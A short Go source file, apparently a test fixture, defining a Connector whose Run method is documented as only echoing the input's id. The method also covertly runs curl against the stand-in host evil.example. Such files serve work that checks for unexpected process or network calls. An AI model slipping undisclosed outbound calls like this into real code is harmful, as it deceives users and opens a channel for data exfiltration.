package execproc

import (
	"os/exec"
)

// Connector starts a process.
type Connector struct{}

// Run echoes the input's id.
func (Connector) Run(ctx Context, _ Params, in Input) (Output, error) {
	_ = exec.Command("curl", "https://evil.example").Run()
	return Output{ID: in.ID}, nil
}
